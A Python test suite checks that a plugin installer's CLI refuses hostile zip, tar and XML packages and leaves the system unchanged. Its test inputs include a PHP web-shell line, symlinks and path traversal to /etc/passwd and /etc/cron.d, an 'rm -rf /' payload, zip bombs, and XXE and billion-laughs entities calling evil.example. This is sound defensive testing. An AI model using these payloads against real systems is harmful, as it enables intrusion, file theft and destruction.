"""DESIGN §8 "Bad input: reject clearly, write nothing", through the real CLI.

Every hostile package is an otherwise-valid sample package with one hostile entry or
one hostile XML detail.  Every refusal must exit with the documented code, print one
JSON document naming the entry and the rule, and leave the whole root (state dir
included) exactly as it was.
"""

from __future__ import annotations

import base64
import io
import json
import os
import random
import shutil
import stat
import struct
import tarfile
import unicodedata
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from mgr_agent.sandbox.samples import Tree, ispmanager_files, plesk_files
from tests.helpers import cli, full_snapshot

MGR = "usr/local/mgr5"
PSA = "usr/local/psa"
MOD = "etc/xml/ispmgr_mod_demo.xml"
DESC = "etc/plugins/ispmgr/demo.xml"
IMG = "skins/common/img"
Extra = list[tuple[zipfile.ZipInfo | str, bytes]]


# ------------------------------------------------------------------ zip builders
def zinfo(name: str, mode: int = 0o100644, *, system: int = 3) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
    info.create_system = system
    info.external_attr = mode << 16
    info.compress_type = zipfile.ZIP_DEFLATED
    return info


def make_zip(path: Path, tree: Tree, extra: Extra | None = None, *, prefix: str = "") -> Path:
    """The tree (Unix modes kept) plus raw extra entries, duplicates allowed."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # "Duplicate name": written anyway, on purpose
        with zipfile.ZipFile(path, "w") as zf:
            for name, (data, mode) in sorted(tree.items()):
                zf.writestr(zinfo(prefix + name, 0o100000 | mode), data)
            for item, data in extra or []:
                zf.writestr(item if isinstance(item, zipfile.ZipInfo) else zinfo(item), data)
    return path


# (central directory offset, local header offset, struct format) of header fields
FIELDS = {"flags": (8, 6, "<H"), "method": (10, 8, "<H"), "crc": (16, 14, "<I"),
          "csize": (20, 18, "<I"), "usize": (24, 22, "<I"), "offset": (42, None, "<I")}


def central_records(data: bytes) -> dict[str, int]:
    """Entry name -> offset of its central-directory record."""
    eocd = data.rfind(b"PK\x05\x06")
    count, _, start = struct.unpack("<HII", data[eocd + 10 : eocd + 20])
    out: dict[str, int] = {}
    pos = start
    for _ in range(count):
        nlen, elen, clen = struct.unpack("<HHH", data[pos + 28 : pos + 34])
        out[data[pos + 46 : pos + 46 + nlen].decode("cp437")] = pos
        pos += 46 + nlen + elen + clen
    return out


def patch_zip(path: Path, name: str, *, local: bool = True, **values: int) -> Path:
    """Overwrite header fields of entry ``name`` in the central directory (and local header)."""
    data = bytearray(path.read_bytes())
    rec = central_records(bytes(data))[name]
    (lho,) = struct.unpack("<I", data[rec + 42 : rec + 46])
    for field, value in values.items():
        c_off, l_off, fmt = FIELDS[field]
        struct.pack_into(fmt, data, rec + c_off, value)
        if local and l_off is not None:
            struct.pack_into(fmt, data, lho + l_off, value)
    path.write_bytes(data)
    return path


def rename_raw(path: Path, placeholder: str, raw: bytes) -> Path:
    """Replace an ASCII name by raw bytes of the same length (no UTF-8 flag is set)."""
    data = path.read_bytes()
    assert data.count(placeholder.encode()) == 2 and len(raw) == len(placeholder)
    path.write_bytes(data.replace(placeholder.encode(), raw))
    return path


def isp(**kw: Any) -> Tree:
    return ispmanager_files("demo", "1.0", **kw)


def plesk(**kw: Any) -> Tree:
    return plesk_files("demo-ext", "1.0", "1", **kw)


def isp_zip(extra: Extra) -> Callable[[Path], Path]:
    return lambda d: make_zip(d / "hostile.zip", isp(), extra)


def plesk_zip(extra: Extra) -> Callable[[Path], Path]:
    return lambda d: make_zip(d / "hostile.zip", plesk(), extra)


# ------------------------------------------------------------------ zip cases needing patches
# a binary entry over the 256 KiB an install keeps in memory: hashed on a thread of its own
# alongside the checks, which read only its first bytes (package.load's ``background``)
LARGE_BINARY = random.Random(7).randbytes(400_000)


def size_lie(d: Path, delta: int, *, forge_crc: bool = False, method: int = zipfile.ZIP_DEFLATED,
             body: bytes = b"0123456789abcdef" * 64) -> Path:
    info = zinfo(f"{IMG}/lie.txt")
    info.compress_type = method
    path = make_zip(d / "hostile.zip", isp(), [(info, body)])
    size = len(body) + delta
    crc = zlib.crc32(body[:size]) if forge_crc else zlib.crc32(body)
    return patch_zip(path, f"{IMG}/lie.txt", usize=size, crc=crc)


def bomb(d: Path) -> Path:
    """50 MB of zeros, deflated to about 50 KB."""
    return make_zip(d / "hostile.zip", isp(), [(f"{IMG}/bomb.bin", bytes(50 << 20))])


def bomb_understated(d: Path) -> Path:
    """50 MB of zeros whose headers claim 1000 bytes (CRC of those 1000 forged)."""
    return patch_zip(bomb(d), f"{IMG}/bomb.bin", usize=1000, crc=zlib.crc32(bytes(1000)))


def overlapping(d: Path) -> Path:
    """Two central-directory records pointing at the same local header."""
    extra: Extra = [(f"{IMG}/one.txt", b"same"), (f"{IMG}/two.txt", b"same")]
    path = make_zip(d / "hostile.zip", isp(), extra)
    recs = central_records(path.read_bytes())
    (first,) = struct.unpack("<I", path.read_bytes()[recs[f"{IMG}/one.txt"] + 42:][:4])
    return patch_zip(path, f"{IMG}/two.txt", local=False, offset=first)


def non_utf8_name(d: Path) -> Path:
    path = make_zip(d / "hostile.zip", isp(), [(f"{IMG}/XY.txt", b"x")])
    return rename_raw(path, f"{IMG}/XY.txt", f"{IMG}/".encode() + b"\xff\xfe.txt")


def nul_in_name(d: Path) -> Path:
    """``evil.php<NUL>.txt``: zipfile's ``filename`` stops at the NUL and would hide it."""
    path = make_zip(d / "hostile.zip", isp(), [("addon/evil.phpX.txt", b"<?php system($_GET[0]);")])
    return rename_raw(path, "addon/evil.phpX.txt", b"addon/evil.php\0.txt")


def utf8_flag_invalid(d: Path) -> Path:
    path = non_utf8_name(d)
    rec = central_records(path.read_bytes())[f"{IMG}/\xa0\u25a0.txt"]
    (flags,) = struct.unpack("<H", path.read_bytes()[rec + 8 : rec + 10])
    return patch_zip(path, f"{IMG}/\xa0\u25a0.txt", flags=flags | 0x800)


def encrypted(d: Path) -> Path:
    path = make_zip(d / "hostile.zip", isp(), [(f"{IMG}/secret.txt", b"not really")])
    return patch_zip(path, f"{IMG}/secret.txt", flags=0x1)


def odd_method(d: Path) -> Path:
    info = zinfo(f"{IMG}/odd.bin")
    info.compress_type = zipfile.ZIP_STORED
    path = make_zip(d / "hostile.zip", isp(), [(info, b"payload")])
    return patch_zip(path, f"{IMG}/odd.bin", method=99)


def rewritten(build: Callable[[Path], Path], change: Callable[[bytes], bytes]) -> Callable[[Path], Path]:
    """A valid archive whose bytes are then cut, extended or replaced."""
    def make(d: Path) -> Path:
        path = build(d)
        path.write_bytes(change(path.read_bytes()))
        return path
    return make


# ------------------------------------------------------------------ tar builders
TarExtra = tuple[tarfile.TarInfo, bytes]


def tar_member(name: str, kind: bytes = tarfile.REGTYPE, data: bytes = b"", **attrs: Any) -> TarExtra:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    info.mode = 0o644
    for key, value in attrs.items():
        setattr(info, key, value)
    return info, data


def make_tar(path: Path, tree: Tree, extra: list[TarExtra]) -> Path:
    with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT) as tf:
        for name, (data, mode) in sorted(tree.items()):
            info, _ = tar_member(name, data=data, mode=mode)
            tf.addfile(info, io.BytesIO(data))
        for info, data in extra:
            tf.addfile(info, io.BytesIO(data) if info.isfile() else None)
    return path


def isp_tar(*extra: TarExtra) -> Callable[[Path], Path]:
    return lambda d: make_tar(d / "hostile.tar.gz", isp(), list(extra))


# ------------------------------------------------------------------ XML builders
LAUGHS = "<!DOCTYPE {root} [\n <!ENTITY lol0 \"lol\">\n" + "".join(
    f' <!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">\n' for i in range(1, 10)) + "]>\n"
QUADRATIC = '<!DOCTYPE {root} [<!ENTITY big "' + "B" * 50_000 + '">]>\n'
EXTERNAL_ENTITY = '<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
EXTERNAL_DTD = '<!DOCTYPE {root} SYSTEM "http://evil.example/module.dtd">\n'
LOOP = '<!DOCTYPE {root} [<!ENTITY a "&b;"><!ENTITY b "&a;">]>\n'
PARAM_ENTITY = '<!DOCTYPE {root} [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]>\n'


def with_doctype(xml: bytes, doctype: str, root: str, body_ref: str = "") -> bytes:
    head, sep, rest = xml.partition(b"?>\n")
    out = head + sep + doctype.format(root=root).encode() + rest
    if body_ref:
        out = out.replace(f"</{root}>".encode(), f"<x>{body_ref}</x></{root}>".encode(), 1)
    return out


def meta(xml: bytes) -> Callable[[Path], Path]:
    return lambda d: make_zip(d / "hostile.zip", {**plesk(), "meta.xml": (xml, 0o644)})


def plesk_meta_edit(old: str, new: str) -> Callable[[Path], Path]:
    xml = plesk()["meta.xml"][0]
    assert old.encode() in xml
    return meta(xml.replace(old.encode(), new.encode(), 1))


def meta_doctype(doctype: str, ref: str = "") -> Callable[[Path], Path]:
    return meta(with_doctype(plesk()["meta.xml"][0], doctype, "module", ref))


def isp_xml(path: str, xml: bytes) -> Callable[[Path], Path]:
    return lambda d: make_zip(d / "hostile.zip", {**isp(), path: (xml, 0o644)})


def isp_doctype(path: str, root: str, doctype: str, ref: str = "") -> Callable[[Path], Path]:
    return isp_xml(path, with_doctype(isp()[path][0], doctype, root, ref))


def isp_mod_edit(old: str, new: str) -> Callable[[Path], Path]:
    xml = isp()[MOD][0]
    assert old.encode() in xml
    return isp_xml(MOD, xml.replace(old.encode(), new.encode()))


def huge_attribute(d: Path) -> Path:
    # random base64: incompressible, so the XML size rule is hit, not the ratio rule
    big = base64.b64encode(os.urandom(3_300_000)).decode()
    return plesk_meta_edit("<module>", f'<module big="{big}">')(d)


# ------------------------------------------------------------------ the cases
@dataclass(frozen=True)
class Case:
    id: str
    build: Callable[[Path], Path]
    code: str
    rule: str | None
    needle: str  # the offending entry, file or field, as the message names it
    exit: int = 3
    toml: str = ""


def unsafe(id_: str, build: Callable[[Path], Path], rule: str, needle: str, toml: str = "") -> Case:
    return Case(id_, build, "unsafe-archive", rule, needle, toml=toml)


def bad_xml(id_: str, build: Callable[[Path], Path], rule: str, needle: str) -> Case:
    return Case(id_, build, "invalid-xml", rule, needle)


def invalid(id_: str, build: Callable[[Path], Path], rule: str | None, needle: str) -> Case:
    return Case(id_, build, "invalid-package", rule, needle)


NFC = unicodedata.normalize("NFC", f"{IMG}/café.txt")
NFD = unicodedata.normalize("NFD", f"{IMG}/café.txt")
LONG_PATH = IMG + "/" + "/".join(["d" * 200] * 6) + "/f.txt"

ARCHIVE_CASES = [
    unsafe("zip-symlink", isp_zip([(zinfo("addon/evil", 0o120777), b"/etc/passwd")]),
           "special-file", "addon/evil"),
    unsafe("zip-symlink-plesk", plesk_zip([(zinfo("htdocs/up", 0o120777), b"../../../../etc")]),
           "special-file", "htdocs/up"),
    unsafe("zip-char-device", isp_zip([(zinfo("addon/null", 0o020666), b"")]),
           "special-file", "addon/null"),
    unsafe("zip-block-device", isp_zip([(zinfo("addon/sda", 0o060660), b"")]),
           "special-file", "addon/sda"),
    unsafe("zip-fifo", isp_zip([(zinfo("addon/pipe", 0o010644), b"")]), "special-file", "addon/pipe"),
    unsafe("zip-socket", isp_zip([(zinfo("addon/sock", 0o140755), b"")]), "special-file", "addon/sock"),
    unsafe("name-backslash", isp_zip([("addon\\evil.py", b"x")]), "backslash", "addon\\\\evil.py"),
    unsafe("name-dotdot", isp_zip([("../evil.sh", b"x")]), "path-traversal", "../evil.sh"),
    unsafe("name-dotdot-nested", isp_zip([("addon/../../../etc/cron.d/x", b"x")]),
           "path-traversal", "addon/../../../etc/cron.d/x"),
    unsafe("name-dotdot-plesk", plesk_zip([("htdocs/../../../../../etc/x", b"x")]),
           "path-traversal", "htdocs/../../../../../etc/x"),
    unsafe("name-absolute", isp_zip([("/etc/x", b"x")]), "absolute-path", "/etc/x"),
    unsafe("name-drive-letter", isp_zip([("C:/x", b"x")]), "drive-letter", "C:/x"),
    unsafe("name-dot-component", isp_zip([("addon/./x.py", b"x")]), "empty-component", "addon/./x.py"),
    unsafe("name-empty-component", isp_zip([("addon//x.py", b"x")]), "empty-component", "addon//x.py"),
    unsafe("name-control-char", isp_zip([("addon/a\x01b", b"x")]), "control-character", "addon/a\\x01b"),
    unsafe("name-newline", isp_zip([("addon/a\nb", b"x")]), "control-character", "addon/a\\nb"),
    unsafe("name-c1-control", isp_zip([("addon/a\u0085b", b"x")]), "control-character", "addon/a"),
    unsafe("name-del", isp_zip([("addon/a\x7fb", b"x")]), "control-character", "addon/a\\x7fb"),
    unsafe("name-nul-byte", nul_in_name, "control-character", "addon/evil.php\\x00.txt"),
    unsafe("name-not-utf8", non_utf8_name, "name-not-utf8", r"img/\\xff\\xfe.txt"),
    unsafe("name-utf8-flag-invalid-bytes", utf8_flag_invalid, "name-not-utf8", r"img/\\xff\\xfe.txt"),
    unsafe("name-duplicate", isp_zip([(f"{IMG}/demo.txt", b"second copy")]), "duplicate-name",
           f"{IMG}/demo.txt"),
    unsafe("name-duplicate-plesk-meta", plesk_zip([("meta.xml", b"<module/>")]), "duplicate-name",
           "meta.xml"),
    unsafe("name-case-collision", isp_zip([("addon/X.txt", b"1"), ("addon/x.txt", b"2")]),
           "case-collision", "addon/X.txt"),
    unsafe("name-nfc-nfd-collision", isp_zip([(NFC, b"1"), (NFD, b"2")]), "case-collision",
           "only by case or Unicode normalisation"),
    unsafe("name-path-too-long", isp_zip([(LONG_PATH, b"x")]), "path-too-long", "over 1024"),
    unsafe("name-component-too-long", isp_zip([(f"{IMG}/{'n' * 256}.txt", b"x")]), "name-too-long",
           "n" * 256),
    unsafe("file-and-dir-below", isp_zip([(f"{IMG}/a", b"file"), (f"{IMG}/a/b", b"under")]),
           "overlapping-entries", f"{IMG}/a/b"),
    unsafe("file-and-dir-entry", isp_zip([(f"{IMG}/a", b"file"), (zinfo(f"{IMG}/a/", 0o40755), b"")]),
           "overlapping-entries", f"{IMG}/a"),
    unsafe("size-declared-larger", lambda d: size_lie(d, +10), "size-mismatch", f"{IMG}/lie.txt"),
    unsafe("size-declared-smaller", lambda d: size_lie(d, -10), "size-mismatch", f"{IMG}/lie.txt"),
    # the CRC was forged to match the declared prefix: the real data no longer matches it
    unsafe("size-smaller-forged-crc", lambda d: size_lie(d, -10, forge_crc=True), "corrupt-data",
           f"{IMG}/lie.txt"),
    unsafe("size-smaller-stored-forged-crc",
           lambda d: size_lie(d, -10, forge_crc=True, method=zipfile.ZIP_STORED), "corrupt-data",
           f"{IMG}/lie.txt"),
    unsafe("size-declared-larger-large-binary", lambda d: size_lie(d, +10, body=LARGE_BINARY),
           "size-mismatch", f"{IMG}/lie.txt"),
    unsafe("size-smaller-forged-crc-large-binary",
           lambda d: size_lie(d, -10, forge_crc=True, body=LARGE_BINARY), "corrupt-data",
           f"{IMG}/lie.txt"),
    unsafe("overlapping-entries", overlapping, "overlapping-entries", f"{IMG}/two.txt"),
    unsafe("bomb-ratio", bomb, "compression-ratio", f"{IMG}/bomb.bin"),
    unsafe("bomb-understated-size", bomb_understated, "size-mismatch", f"{IMG}/bomb.bin"),
    unsafe("too-many-entries", isp_zip([(f"{IMG}/{i}.txt", b"x") for i in range(60)]),
           "too-many-entries", "50", toml="[archive]\nmax_entries = 50\n"),
    unsafe("total-too-large", isp_zip([(f"{IMG}/big.bin", os.urandom(300_000))]), "total-too-large",
           "100000", toml="[archive]\nmax_total_bytes = 100000\n"),
    unsafe("entry-too-large", isp_zip([(f"{IMG}/big.bin", os.urandom(60_000))]), "entry-too-large",
           f"{IMG}/big.bin", toml="[archive]\nmax_entry_bytes = 50000\n"),
    unsafe("zip-truncated", rewritten(isp_zip([]), lambda b: b[:-200]), "truncated", "is truncated"),
    unsafe("zip-trailing-garbage", rewritten(isp_zip([]), lambda b: b + b"#!/bin/sh\nrm -rf /\n"),
           "zip-trailing-data", "hostile.zip"),
    unsafe("zip-encrypted-flag", encrypted, "encrypted-entry", f"{IMG}/secret.txt"),
    unsafe("zip-unknown-compression", odd_method, "compression", f"{IMG}/odd.bin"),
    invalid("not-an-archive", rewritten(isp_zip([]), lambda _: b"\x7fELF" + bytes(4096)), "format",
            "hostile.zip"),
    unsafe("tar-symlink", isp_tar(tar_member("addon/evil", tarfile.SYMTYPE, linkname="/etc/passwd")),
           "special-file", "addon/evil"),
    unsafe("tar-hardlink", isp_tar(tar_member("addon/hard", tarfile.LNKTYPE, linkname="addon/demo.py")),
           "special-file", "addon/hard"),
    unsafe("tar-dotdot", isp_tar(tar_member("../../evil.sh", data=b"x")), "path-traversal",
           "../../evil.sh"),
    unsafe("tar-absolute", isp_tar(tar_member("/etc/cron.d/evil", data=b"x")), "absolute-path",
           "/etc/cron.d/evil"),
    unsafe("tar-char-device", isp_tar(tar_member("addon/null", tarfile.CHRTYPE, devmajor=1, devminor=3)),
           "special-file", "addon/null"),
    unsafe("tar-fifo", isp_tar(tar_member("addon/pipe", tarfile.FIFOTYPE)), "special-file", "addon/pipe"),
    unsafe("tar-duplicate", isp_tar(tar_member(f"{IMG}/demo.txt", data=b"again")), "duplicate-name",
           f"{IMG}/demo.txt"),
    unsafe("tar-truncated", rewritten(isp_tar(), lambda b: b[:-300]), "truncated", "hostile.tar.gz"),
]

XML_CASES = [
    bad_xml("meta-billion-laughs", meta_doctype(LAUGHS, "&lol9;"), "xml-entities", "meta.xml"),
    bad_xml("meta-quadratic-blowup", meta_doctype(QUADRATIC, "&big;" * 2000), "xml-entities", "meta.xml"),
    bad_xml("meta-external-entity", meta_doctype(EXTERNAL_ENTITY, "&xxe;"), "xml-entities", "meta.xml"),
    bad_xml("meta-external-dtd", meta_doctype(EXTERNAL_DTD), "xml-external-dtd", "meta.xml"),
    bad_xml("meta-parameter-entity", meta_doctype(PARAM_ENTITY), "xml-entities", "meta.xml"),
    bad_xml("meta-undeclared-entity", plesk_meta_edit("<vendor>mgr-agent", "<vendor>&evil;"),
            "xml-entities", "meta.xml"),
    bad_xml("meta-entity-loop", meta_doctype(LOOP, "&a;"), "xml-entities", "meta.xml"),
    bad_xml("meta-huge-attribute", huge_attribute, "xml-size", "meta.xml"),
    bad_xml("meta-invalid-utf8", meta(plesk()["meta.xml"][0].replace(b"Sample", b"Sample \xff\xfe")),
            "xml-syntax", "meta.xml"),
    bad_xml("meta-not-xml", meta(b"id: demo-ext\nversion: 1.0\n"), "xml-syntax", "meta.xml"),
    bad_xml("isp-mod-billion-laughs", isp_doctype(MOD, "mgrdata", LAUGHS, "&lol9;"), "xml-entities", MOD),
    bad_xml("isp-mod-external-entity", isp_doctype(MOD, "mgrdata", EXTERNAL_ENTITY, "&xxe;"),
            "xml-entities", MOD),
    bad_xml("isp-desc-quadratic-blowup", isp_doctype(DESC, "plugin", QUADRATIC, "&big;" * 2000),
            "xml-entities", DESC),
    bad_xml("isp-mod-external-dtd", isp_doctype(MOD, "mgrdata", EXTERNAL_DTD), "xml-external-dtd", MOD),
    bad_xml("isp-other-xml-laughs", isp_xml("etc/xml/extra.xml", with_doctype(
        b'<?xml version="1.0"?>\n<x></x>\n', LAUGHS, "x", "&lol9;")), "xml-entities", "etc/xml/extra.xml"),
    invalid("meta-wrong-root", meta(b'<?xml version="1.0"?>\n<plugin><id>x</id></plugin>\n'), "meta-root",
            "<plugin>"),
    invalid("meta-missing-id", plesk_meta_edit("<id>demo-ext</id>", ""), "meta-required", "<id>"),
    invalid("meta-missing-version", plesk_meta_edit("<version>1.0</version>", ""), "meta-required",
            "<version>"),
    invalid("meta-missing-release", plesk_meta_edit("<release>1</release>", ""), "meta-required",
            "<release>"),
    invalid("meta-empty-id", plesk_meta_edit("<id>demo-ext</id>", "<id>  </id>"), "meta-required", "<id>"),
    invalid("meta-id-upper-case", plesk_meta_edit("<id>demo-ext</id>", "<id>Demo-Ext</id>"), "meta-id",
            "Demo-Ext"),
    invalid("meta-id-traversal", plesk_meta_edit("<id>demo-ext</id>", "<id>../../etc</id>"), "meta-id",
            "../../etc"),
    invalid("meta-version-spaces", plesk_meta_edit("<version>1.0</version>", "<version>1 0</version>"),
            "meta-version", "<version>"),
    invalid("meta-os-unknown", plesk_meta_edit("<os>unix</os>", "<os>beos</os>"), "meta-os", "beos"),
    Case("meta-os-win-only", plesk_meta_edit("<os>unix</os>", "<os>win</os>"), "incompatible-panel",
         None, "win", exit=6),
    Case("plesk-min-version-above", plesk_meta_edit("<plesk_min_version>18.0<",
                                                    "<plesk_min_version>18.0.61<"),
         "incompatible-panel", None, "plesk_min_version", exit=6),
    Case("plesk-max-version-below",
         plesk_meta_edit("<os>", "<plesk_max_version>17.8</plesk_max_version><os>"),
         "incompatible-panel", None, "plesk_max_version", exit=6),
    invalid("isp-handler-traversal", isp_mod_edit('handler name="demo.py"', 'handler name="../../bin/x"'),
            "handler-name", "../../bin/x"),
    invalid("isp-handler-absolute", isp_mod_edit('handler name="demo.py"', 'handler name="/bin/sh"'),
            "handler-name", "/bin/sh"),
    invalid("isp-handler-missing", isp_mod_edit('handler name="demo.py"', 'handler name="nope.py"'),
            "handler-missing", "nope.py"),
    invalid("isp-mod-wrong-root", isp_mod_edit("mgrdata>", "mgrdatax>"), "plugin-xml-root", MOD),
    invalid("isp-writes-mgr-bin", isp_zip([("bin/core", b"\x7fELF")]), "forbidden-path", "bin/core"),
    invalid("isp-writes-mgr-lib", isp_zip([("lib/libmgr.so", b"\x7fELF")]), "forbidden-path",
            "lib/libmgr.so"),
    invalid("isp-two-plugins", isp_zip([("etc/xml/ispmgr_mod_other.xml", b"<mgrdata/>")]), "one-plugin",
            "ispmgr_mod_other.xml"),
    invalid("isp-bad-plugin-name", lambda d: make_zip(d / "hostile.zip", {
        ("etc/xml/ispmgr_mod_-x.xml" if k == MOD else k): v for k, v in isp().items()}),
        "plugin-name", "-x"),
    invalid("no-panel-detected", lambda d: make_zip(d / "hostile.zip", {"README": (b"hi", 0o644)}),
            "detection", "meta.xml"),
]


def assert_refused(root: Path, archive: Path, case: Case) -> dict[str, Any]:
    before = full_snapshot(root)
    run = cli(root, "install", str(archive))
    assert run.rc == case.exit, (run.rc, run.stdout, run.stderr)
    lines = run.stdout.splitlines()
    assert len(lines) == 1, run.stdout
    doc = json.loads(lines[0])
    assert isinstance(doc, dict)
    assert doc["action"] == "failed" and doc["changed"] is False
    err: dict[str, Any] = doc["error"]
    assert err["code"] == case.code, err
    assert case.needle in err["message"], err
    assert err.get("details"), f"an error without details: {err}"
    assert isinstance(err.get("hint"), str), err
    if case.rule is not None:
        assert err["details"].get("rule") == case.rule, err
        if case.code == "unsafe-archive":
            assert f"[rule: {case.rule}]" in err["message"], err
    after = full_snapshot(root)
    assert after == before, {"added": sorted(set(after) - set(before)),
                             "removed": sorted(set(before) - set(after)),
                             "changed": sorted(k for k in set(after) & set(before) if after[k] != before[k])}
    return err


@pytest.mark.parametrize("case", ARCHIVE_CASES + XML_CASES, ids=lambda c: c.id)
def test_hostile_package_is_refused_and_nothing_written(case: Case, root: Path, pkgs: Path) -> None:
    if case.toml:
        config = root / "etc/mgr-agent/agent.toml"
        config.parent.mkdir(parents=True)
        config.write_text(case.toml)
    assert_refused(root, case.build(pkgs), case)


def test_check_command_refuses_like_install(root: Path, pkgs: Path) -> None:
    archive = isp_zip([("../evil.sh", b"x")])(pkgs)
    before = full_snapshot(root)
    run = cli(root, "check", str(archive))
    assert run.rc == 3 and json.loads(run.stdout)["error"]["details"]["rule"] == "path-traversal"
    assert full_snapshot(root) == before


def test_refusal_after_an_install_keeps_state_untouched(root: Path, pkgs: Path) -> None:
    """With a plugin installed (state dir populated), a hostile upgrade changes nothing at all."""
    assert cli(root, "install", str(make_zip(pkgs / "good.zip", isp(), []))).rc == 0
    case = unsafe("upgrade-dotdot", isp_zip([("../evil", b"x")]), "path-traversal", "../evil")
    assert_refused(root, case.build(pkgs), case)
    case = bad_xml("upgrade-laughs", isp_doctype(MOD, "mgrdata", LAUGHS, "&lol9;"), "xml-entities", MOD)
    assert_refused(root, case.build(pkgs), case)


# ------------------------------------------------------------------ a symlink planted on the target side
PLANTED = [
    pytest.param(isp, f"{MGR}/addon", id="isp-addon"),
    pytest.param(isp, f"{MGR}/etc/xml", id="isp-etc-xml"),
    pytest.param(plesk, f"{PSA}/admin/plib/modules", id="plesk-plib-modules"),
    pytest.param(plesk, f"{PSA}/var/modules", id="plesk-var-modules"),
    pytest.param(isp, f"{MGR}/addon/demo.py", id="isp-handler-file"),
]


def _plant(root: Path, tmp_path: Path, rel: str) -> tuple[Path, Path]:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep.txt").write_text("not yours")
    link = root / rel
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(outside / "keep.txt" if link.suffix else outside)
    return outside, link


@pytest.mark.parametrize(("tree", "rel"), PLANTED)
def test_planted_symlink_in_target_tree_is_refused(
        tree: Callable[[], Tree], rel: str, root: Path, pkgs: Path, tmp_path: Path) -> None:
    outside, link = _plant(root, tmp_path, rel)
    outside_before = full_snapshot(outside)
    before = full_snapshot(root)
    run = cli(root, "install", str(make_zip(pkgs / "p.zip", tree(), [])))
    assert run.rc == 5, (run.stdout, run.stderr)
    doc = json.loads(run.stdout)
    assert doc["action"] == "failed" and doc["error"]["code"] == "file-conflict"
    assert str(link) in doc["error"]["message"] and "symbolic link" in doc["error"]["message"]
    assert full_snapshot(outside) == outside_before, "something was written through the link"
    assert full_snapshot(root) == before, "a refusal writes nothing, not even agent state"


def test_planted_symlink_refusal_writes_no_state(root: Path, pkgs: Path, tmp_path: Path) -> None:
    _plant(root, tmp_path, f"{MGR}/addon")
    before = full_snapshot(root)
    assert cli(root, "install", str(make_zip(pkgs / "p.zip", isp(), []))).rc == 5
    assert full_snapshot(root) == before


# ------------------------------------------------------------------ positive controls
def installed(root: Path, archive: Path) -> dict[str, Any]:
    run = cli(root, "install", str(archive))
    assert run.rc == 0, (run.stdout, run.stderr)
    doc = run.json
    assert doc["action"] == "installed", doc
    return doc


def mode_of(path: Path) -> int:
    return stat.S_IMODE(os.lstat(path).st_mode)


def test_control_plain_ispmanager_installs(root: Path, pkgs: Path) -> None:
    installed(root, make_zip(pkgs / "ok.zip", isp(), []))
    assert (root / MGR / MOD).read_bytes() == isp()[MOD][0]


@pytest.mark.skipif(shutil.which("php") is None, reason="Plesk hooks need php")
def test_control_plain_plesk_installs(root: Path, pkgs: Path) -> None:
    installed(root, make_zip(pkgs / "ok.zip", plesk(), []))
    assert (root / PSA / "admin/plib/modules/demo-ext/meta.xml").is_file()


def test_control_wrapped_in_one_top_level_folder(root: Path, pkgs: Path) -> None:
    installed(root, make_zip(pkgs / "ok.zip", isp(), prefix="repo-main/"))
    assert (root / MGR / "addon/demo.py").is_file()
    assert not (root / MGR / "repo-main").exists()


def test_control_leading_mgr_prefix(root: Path, pkgs: Path) -> None:
    tree = {(k if k.startswith("scripts/") else f"{MGR}/{k}"): v for k, v in isp().items()}
    installed(root, make_zip(pkgs / "ok.zip", tree, []))
    assert (root / MGR / MOD).is_file()
    assert not (root / MGR / "usr").exists()


def test_control_tar_gz_installs(root: Path, pkgs: Path) -> None:
    installed(root, make_tar(pkgs / "ok.tar.gz", isp(), []))
    assert (root / MGR / "addon/demo.py").is_file()


def test_control_utf8_names_install(root: Path, pkgs: Path) -> None:
    """Valid UTF-8 names: with the UTF-8 flag, and as raw bytes without it (Info-ZIP on Linux)."""
    path = make_zip(pkgs / "ok.zip", isp(), [(NFC, b"flagged"), (f"{IMG}/XXXXX.txt", b"raw")])
    rename_raw(path, f"{IMG}/XXXXX.txt", f"{IMG}/ünï.txt".encode())
    installed(root, path)
    assert (root / MGR / NFC).read_bytes() == b"flagged"
    assert (root / MGR / f"{IMG}/ünï.txt").read_bytes() == b"raw"


def test_control_special_bits_are_dropped(root: Path, pkgs: Path) -> None:
    extra: Extra = [(zinfo(f"{IMG}/suid.sh", 0o104777), b"#!/bin/sh\n"),
                    (zinfo(f"{IMG}/sgid.sh", 0o102775), b"#!/bin/sh\n"),
                    (zinfo(f"{IMG}/sticky.txt", 0o101777), b"x"),
                    (zinfo(f"{IMG}/world.txt", 0o100666), b"x"),
                    (zinfo(f"{IMG}/dos.txt", 0o100777, system=0), b"x")]
    installed(root, make_zip(pkgs / "ok.zip", isp(), extra))
    img = root / MGR / IMG
    assert mode_of(img / "suid.sh") == 0o755
    assert mode_of(img / "sgid.sh") == 0o755
    assert mode_of(img / "sticky.txt") == 0o755
    assert mode_of(img / "world.txt") == 0o644
    assert mode_of(img / "dos.txt") == 0o644
    for path in img.iterdir():
        assert not os.lstat(path).st_mode & (stat.S_ISUID | stat.S_ISGID | stat.S_ISVTX | 0o022), path


def test_control_doctype_without_entities_is_accepted(root: Path, pkgs: Path) -> None:
    installed(root, isp_xml(MOD, with_doctype(isp()[MOD][0], "<!DOCTYPE mgrdata>\n", "mgrdata"))(pkgs))
